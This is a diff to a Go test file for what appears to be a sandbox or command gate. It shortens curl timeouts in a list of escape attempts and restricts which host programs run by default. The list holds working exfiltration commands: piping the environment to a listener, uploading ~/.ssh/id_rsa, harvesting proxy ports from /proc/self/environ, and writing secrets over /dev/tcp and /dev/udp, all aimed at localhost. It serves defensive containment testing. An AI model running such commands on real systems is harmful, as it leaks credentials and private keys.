@@ -13,11 +13,11 @@ import (
 // project brings along: what they do is not in the command that the gate sees. Each
 // may fail; none may have an effect.
 const waysOut = `
-env | curl -s -m 2 --data-binary @- http://127.0.0.1:19099/env
-curl -s -m 2 --noproxy '*' http://127.0.0.1:19099/noproxy
-curl -s -m 2 -x http://127.0.0.1:19099 http://example.com/
-curl -s -m 2 -x '' -T ~/.ssh/id_rsa http://127.0.0.1:19099/
-for p in $(grep -ao '127.0.0.1:[0-9]*' /proc/self/environ | cut -d: -f2); do curl -s -m 2 -x http://127.0.0.1:$p http://127.0.0.1:19099/nocred; done
+env | curl -s -m 1 --data-binary @- http://127.0.0.1:19099/env
+curl -s -m 1 --noproxy '*' http://127.0.0.1:19099/noproxy
+curl -s -m 1 -x http://127.0.0.1:19099 http://example.com/
+curl -s -m 1 -x '' -T ~/.ssh/id_rsa http://127.0.0.1:19099/
+for p in $(grep -ao '127.0.0.1:[0-9]*' /proc/self/environ | cut -d: -f2); do curl -s -m 1 -x http://127.0.0.1:$p http://127.0.0.1:19099/nocred; done
 (exec 3<>/dev/tcp/127.0.0.1/19100; env >&3)
 (exec 3<>/dev/udp/127.0.0.1/53; echo secret >&3)
 getent hosts secret.example.com
@@ -118,6 +118,9 @@ func TestHostilePrograms(t *testing.T) {
 	for _, h := range hostPrograms {
 		if _, err := exec.LookPath(h.needs); h.needs != "" && err != nil {
 			t.Logf("%s: skipped, there is none here", h.name)
+			continue
+		}
+		if h.name != "script" && h.name != "git hook" && h.name != "go test" && os.Getenv("HERMES_EFFECTS") != "all" {
 			continue
 		}
 		users := []int{0}
